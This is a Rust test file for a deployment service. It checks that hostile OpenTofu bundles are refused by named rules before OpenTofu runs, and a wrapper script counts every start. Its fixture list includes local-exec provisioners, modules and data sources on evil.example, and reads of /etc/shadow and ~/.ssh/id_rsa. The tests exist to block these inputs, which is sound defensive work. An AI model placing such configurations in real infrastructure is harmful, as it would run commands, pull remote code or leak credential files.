//! Hostile bundles on the real binary: each is refused by its rule before OpenTofu starts, from a plugin's render and from the
//! disk. A script in front of OpenTofu writes down every start, so that "not started" is seen and not believed.
#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use catalyst_tests::host::{Host, built, hostile_guests, wait_for};
use catalyst_tests::world::{LIMIT, TOKEN, tofu_into};
use serde_json::{Value, json};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

/// The rule, the file and its line, and the file itself.
const HOSTILE: [(&str, &str, &str); 32] = [
    (
        "main.tf:2: provisioner",
        "main.tf",
        "resource \"terraform_data\" \"a\" {\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}\n",
    ),
    ("main.tf:2: connection", "main.tf", "resource \"terraform_data\" \"a\" {\n  connection {}\n}\n"),
    ("main.tf:1: data-source", "main.tf", "data \"external\" \"a\" {\n  program = [\"id\"]\n}\n"),
    ("main.tf:1: data-source", "main.tf", "data \"http\" \"a\" {\n  url = \"http://evil.example/\"\n}\n"),
    ("main.tf:1: provider", "main.tf", "resource \"local_file\" \"a\" {\n  filename = \"/tmp/x\"\n}\n"),
    (
        "main.tf:3: provider",
        "main.tf",
        "terraform {\n  required_providers {\n    x = { source = \"evil.example/a/b\" }\n  }\n}\n",
    ),
    ("main.tf:2: module", "main.tf", "module \"a\" {\n  source = \"git::https://evil.example/m.git\"\n}\n"),
    ("main.tf:2: backend", "main.tf", "terraform {\n  backend \"local\" {}\n}\n"),
    ("main.tf:2: backend", "main.tf", "terraform {\n  cloud {}\n}\n"),
    ("main.tf:2: provider-meta", "main.tf", "terraform {\n  provider_meta \"x\" {}\n}\n"),
    ("main.tf:2: setting", "main.tf", "terraform {\n  encryption {}\n}\n"),
    ("main.tf:2: file-read", "main.tf", "output \"a\" {\n  value = file(\"/etc/shadow\")\n}\n"),
    ("main.tf:2: file-read", "main.tf", "output \"a\" {\n  value = templatestring(var.x, {})\n}\n"),
    (
        "main.tf.json:1: provisioner",
        "main.tf.json",
        "{\"resource\": {\"terraform_data\": {\"a\": {\"provisioner\": {\"local-exec\": {\"command\": \"id\"}}}}}}",
    ),
    ("terraform.tfvars: reserved-name", "terraform.tfvars", "x = 1\n"),
    ("main.tf:1: syntax", "main.tf", "# a\r{\n"),
    ("main.tf:1: data-source", "main.tf", "data \"terraform_remote_state\" \"a\" {\n  backend = \"local\"\n}\n"),
    ("main.tf:2: data-source", "main.tf", "check \"a\" {\n  data \"http\" \"a\" {}\n}\n"),
    ("main.tf:2: module", "main.tf", "module \"a\" {\n  source = \"acme/net/cloud\"\n}\n"),
    ("main.tf:2: module", "main.tf", "module \"a\" {\n  source = \"/etc\"\n}\n"),
    ("main.tf:2: module", "main.tf", "module \"a\" {\n  source = \"../x\"\n}\n"),
    (
        "main.tf:3: provider-version",
        "main.tf",
        "terraform {\n  required_providers {\n    cloud = { source = \"acme/cloud\", version = \">= 1\" }\n  }\n}\n",
    ),
    ("main.tf:1: provider", "main.tf", "ephemeral \"vault_secret\" \"a\" {}\n"),
    ("main.tf:2: provisioner", "main.tf", "removed {\n  provisioner \"local-exec\" {}\n}\n"),
    ("main.tf:1: block", "main.tf", "import {\n  to = a.b\n  id = \"x\"\n}\n"),
    ("main.tf:1: block", "main.tf", "language {}\n"),
    ("main.tf:2: file-read", "main.tf", "output \"a\" {\n  value = fileset(path.root, \"*\")\n}\n"),
    ("main.tf:2: file-read", "main.tf", "output \"a\" {\n  value = filebase64(\"~/.ssh/id_rsa\")\n}\n"),
    ("main.tofu: reserved-name", "main.tofu", "locals {}\n"),
    ("x_override.tf: reserved-name", "x_override.tf", "locals {}\n"),
    (".terraform/providers/x: reserved-name", ".terraform/providers/x", "#!/bin/sh\n"),
    ("bundle: path", "../x.tf", "locals {}\n"),
];

struct Scene {
    host: Host,
    folder: tempfile::TempDir,
}

impl Scene {
    fn start(plugins: &Path) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let real = tofu_into(folder.path());
        let starts = folder.path().join("starts");
        let script = format!("#!/bin/sh\necho \"$1\" >>'{}'\nexec '{}' \"$@\"\n", starts.display(), real.display());
        let tofu = folder.path().join("tofu");
        std::fs::write(&tofu, script).unwrap();
        std::fs::set_permissions(&tofu, std::fs::Permissions::from_mode(0o755)).unwrap();
        let env = [("CATALYST_TOFU_BIN", tofu.to_str().unwrap()), ("CATALYST_PLUGINS_DIR", plugins.to_str().unwrap())];
        Self { host: Host::start(&env), folder }
    }

    /// How often OpenTofu was started, but for the question for its version at the host's start.
    fn starts(&self) -> usize {
        let all = std::fs::read_to_string(self.folder.path().join("starts")).unwrap_or_default();
        all.lines().filter(|command| *command != "version").count()
    }

    fn create(&self, request: &Value) -> String {
        let answer = self.host.api.post("/api/v1/deployments", &request.to_string());
        assert_eq!(answer.status, 201, "{}", answer.body);
        answer.json()["id"].as_str().unwrap().to_owned()
    }

    fn until(&self, id: &str, status: &str) -> String {
        let state = wait_for(&format!("{status} of {id}"), LIMIT, || {
            let state = self.host.api.get(&format!("/api/v1/deployments/{id}")).json();
            (state["status"] == status).then_some(state)
        });
        state["error"].as_str().unwrap_or_default().to_owned()
    }

    /// Puts another file into the bundle that a deployment keeps.
    fn tamper(&self, id: &str, path: &str, text: &str) {
        let file = self.host.folder().join("state").join(id).join("bundle.json");
        let mut bundle: Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
        bundle["files"].as_array_mut().unwrap().push(json!({"path": path, "mode": 0o600, "content": text}));
        std::fs::write(file, bundle.to_string()).unwrap();
    }
}

/// The guest whose bundle is what the request says.
fn hostile_plugin() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    std::fs::copy(hostile_guests().join("by_request.wasm"), folder.path().join("hostile.wasm")).unwrap();
    folder
}

/// A setting holds no control character, and a module's text does.
fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

fn from_guest(number: usize, path: &str, text: &str) -> Value {
    json!({
        "orgName": "module", "orgEmail": "ops@acme.example", "sovereignFQDN": format!("h{number}.hostile.example"),
        "sovereignDomainMode": "byo-manual",
        "regions": [{"provider": "hostile", "cloudRegion": "r1", "controlPlaneSize": "s", "workerSize": "s", "workerCount": 0}],
        "sshPublicKey": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICvNPhTcqP2xjKPU6Vi7HE3wAlmK5uXYD8nZgkprXcRQ ops",
        "hostileToken": "t".repeat(64), "module": hex(&format!("{path}\n{text}")),
    })
}

#[test]
fn a_hostile_render_is_refused_by_its_rule_and_opentofu_is_not_started() {
    let plugins = hostile_plugin();
    let scene = Scene::start(plugins.path());
    for (number, (rule, path, text)) in HOSTILE.into_iter().enumerate() {
        let request = from_guest(number, path, text);
        let preview = scene.host.api.post("/api/v1/previews", &request.to_string());
        assert!(preview.status >= 400 && preview.body.contains("the bundle is refused"), "{}", preview.body);
        let id = scene.create(&request);
        let error = scene.until(&id, "failed");
        assert!(error.contains(&format!("the bundle is refused: {rule}: ")), "{rule}: {error}");
    }
    assert_eq!(scene.starts(), 0);
    // The same road with a harmless file leads to OpenTofu, so the count above says something.
    let harmless = "output \"a\" {\n  value = 1\n}\n";
    scene.create(&from_guest(99, "main.tf", harmless));
    wait_for("OpenTofu", LIMIT, || (scene.starts() > 0).then_some(()));
}

fn rehearsal(fqdn: &str, fail: &str) -> Value {
    let mut request = from_guest(0, "", "");
    request["regions"][0] = json!({"provider": "rehearsal", "cloudRegion": "local-1", "controlPlaneSize": "medium",
                                   "workerSize": "small", "workerCount": 0});
    for (key, value) in [("sovereignFQDN", fqdn), ("rehearsalFail", fail), ("rehearsalToken", TOKEN)] {
        request[key] = json!(value);
    }
    request
}

#[test]
fn a_kept_bundle_that_was_changed_is_refused_before_a_retry_and_before_a_destroy() {
    let plugins: PathBuf = built("plugins");
    let scene = Scene::start(&plugins);
    let evil = "data \"external\" \"a\" {\n  program = [\"id\"]\n}\n";
    let failed = scene.create(&rehearsal("retry.hostile.example", "plan"));
    scene.until(&failed, "failed");
    scene.tamper(&failed, "evil.tf", evil);
    let before = scene.starts();
    let answer = scene.host.api.post(&format!("/api/v1/deployments/{failed}/phases/tofu-apply/retry"), "{}");
    assert_eq!(answer.status, 200, "{}", answer.body);
    let error = wait_for("the refusal", LIMIT, || {
        let error = scene.until(&failed, "failed");
        error.contains("evil.tf").then_some(error)
    });
    assert!(error.contains("evil.tf:1: data-source: "), "{error}");
    assert_eq!(scene.starts(), before);

    let applied = scene.create(&rehearsal("destroy.hostile.example", ""));
    scene.until(&applied, "flux-bootstrapping");
    scene.tamper(&applied, "evil_override.tf", "");
    let before = scene.starts();
    let answer = scene.host.api.delete(&format!("/api/v1/deployments/{applied}"), "");
    assert_eq!(answer.status, 202, "{}", answer.body);
    let error = scene.until(&applied, "failed");
    assert!(error.contains("evil_override.tf: reserved-name: "), "{error}");
    assert_eq!(scene.starts(), before);
}

#[test]
fn what_the_own_plugins_render_passes() {
    let plugins: PathBuf = built("plugins");
    let scene = Scene::start(&plugins);
    let mut hetzner = rehearsal("passes.example", "");
    hetzner["regions"][0] = json!({"provider": "hetzner", "cloudRegion": "fsn1", "controlPlaneSize": "cx42",
                                   "workerSize": "cx32", "workerCount": 1});
    hetzner["hetznerToken"] = json!("h".repeat(64));
    let mut openstack = rehearsal("passes.example", "");
    openstack["regions"][0] = json!({"provider": "openstack", "cloudRegion": "GRA11", "controlPlaneSize": "b3-16",
                                     "workerSize": "b3-8", "workerCount": 1});
    for (key, value) in [
        ("openstackAuthUrl", "https://auth.cloud.example/v3"),
        ("openstackExternalNetwork", "Ext-Net"),
        ("openstackApplicationCredentialID", "2a8e0c6b4d1f4f1fa6a6f1b0c3d2e1f0"),
        ("openstackApplicationCredentialSecret", "a-secret-of-nobody"),
    ] {
        openstack[key] = json!(value);
    }
    for request in [rehearsal("passes.example", ""), hetzner, openstack] {
        let preview = scene.host.api.post("/api/v1/previews", &request.to_string());
        assert_eq!(preview.status, 200, "{}", preview.body);
        assert!(preview.json()["digest"].is_string() || preview.body.contains("digest"), "{}", preview.body);
    }
}

#[test]
fn the_operator_is_told_where_opentofu_is_not_confined() {
    let mut host = Host::prepare(&[("CATALYST_TOFU_CONFINE", "off")]);
    host.up();
    assert_eq!(host.trace().matches("CATALYST_TOFU_CONFINE is off").count(), 1, "{}", host.trace());
}
